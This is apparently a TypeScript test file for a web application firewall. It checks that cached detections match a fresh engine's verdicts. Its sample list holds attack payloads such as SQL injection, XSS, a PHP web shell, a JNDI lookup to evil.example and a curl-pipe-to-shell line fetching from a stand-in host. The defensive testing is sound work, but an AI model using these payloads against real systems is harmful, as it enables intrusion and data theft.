// The engine's remembered detections are exact: one long-lived engine (its cache warm, turning
// over, and skipped for names whose values never repeat) gives every request the verdict that a
// new engine, which has remembered nothing, gives it. Target names made once and kept are the
// names a request would otherwise get.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { createBuiltInWaf, type InspectedRequest, type WafPolicy } from "./index.ts";
import { requestTargets } from "./targets.ts";

const POLICY: WafPolicy = { mode: "block", paranoia: 4, threshold: 5, exclusions: [] };

// Attacks of every family beside benign look-alikes: the cache must hand each its own detections.
const SAMPLES = [
  "1' OR '1'='1",
  "1 union select password from users--",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "../../../../etc/passwd",
  "; cat /etc/passwd",
  "$(curl http://evil.example/x.sh|sh)",
  "http://169.254.169.254/latest/meta-data/",
  "<?php system($_GET['c']); ?>",
  "${jndi:ldap://evil.example/a}",
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
  "foo%0d%0aSet-Cookie:%20a=b",
  '<!--#exec cmd="ls" -->',
  "*)(uid=*))(|(uid=*",
  "' or count(//user)>0 or '",
  '{"$where": "sleep(1000)"}',
  "{__schema{types{name}}}",
  "GET /admin HTTP/1.1\r\nHost: x",
  "O'Brien",
  "select a size",
  "rock & roll",
  "calle diamante, 57",
  "john.smith@example.com",
  "https://app.example.com/account",
  "",
];

const post = (fields: [string, string][], cookie: string): InspectedRequest => {
  const body = Buffer.from(
    fields.map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(v)}`).join("&"),
  );
  return {
    method: "POST",
    path: "/account/profile?tab=settings",
    headers: {
      host: "app.example.com",
      "user-agent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0",
      accept: "text/html",
      cookie,
      "content-type": "application/x-www-form-urlencoded",
    },
    body,
  };
};

/** Inspects each request with one engine and with a new one, expecting the same verdict. */
function expectSameVerdicts(reqs: InspectedRequest[]): void {
  const waf = createBuiltInWaf();
  for (const q of reqs) expect(waf.inspect(q, POLICY)).toEqual(createBuiltInWaf().inspect(q, POLICY));
}

const value = fc.oneof(
  fc.constantFrom(...SAMPLES),
  fc.string({ maxLength: 40 }),
  fc.string({ unit: fc.constantFrom(..."<>'\"();|&$/\\.%*=- aA1sSelcturnoi"), maxLength: 40 }),
);

describe("remembered detections", () => {
  it("match a new engine's on streams of repeating and new values (property)", () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.record({
            fields: fc.array(fc.tuple(fc.constantFrom("q", "name", "comment", "id"), value), {
              minLength: 1,
              maxLength: 4,
            }),
            cookie: fc.constantFrom("session=abc", "session=abc; theme=dark", "x=<script>", "a=1' or '1'='1"),
          }),
          { minLength: 40, maxLength: 120 },
        ),
        (stream) => expectSameVerdicts(stream.map((r) => post(r.fields, r.cookie))),
      ),
      { numRuns: 15 },
    );
  });

  it("match a new engine's once names skip the cache and the generations turn over", () => {
    // A field whose values never repeat (skipped after a while), fields that always repeat, and
    // enough distinct names and values to turn the cache's generations over more than once.
    const reqs: InspectedRequest[] = [];
    for (let i = 0; i < 8000; i++) {
      const sample = SAMPLES[i % SAMPLES.length]!;
      reqs.push(
        post(
          [
            ["free", `${sample} ${i}`],
            ["fixed", sample],
            [`f${i % 900}`, i % 3 === 0 ? sample : `v${i}`],
          ],
          `session=${i % 5}`,
        ),
      );
    }
    expectSameVerdicts(reqs);
  });
});

describe("target names made once", () => {
  it("are the names built from the request each time (property)", () => {
    const part = fc.string({ maxLength: 80 });
    fc.assert(
      fc.property(fc.array(fc.tuple(part, part), { maxLength: 6 }), part, (fields, cookie) => {
        const q = post(fields, `${cookie}=1; ${cookie}`);
        const first = requestTargets(q);
        const again = requestTargets(q);
        expect(again).toEqual(first);
        for (const [k, v] of fields) {
          const name = k.length > 256 ? k.slice(0, 256) : k;
          expect(first).toContainEqual({ name: `ARGS_NAMES:${name}`, value: k });
          if (v.length <= 8192) expect(first).toContainEqual({ name: `ARGS:${name}`, value: v });
        }
      }),
      { numRuns: 200 },
    );
  });
});
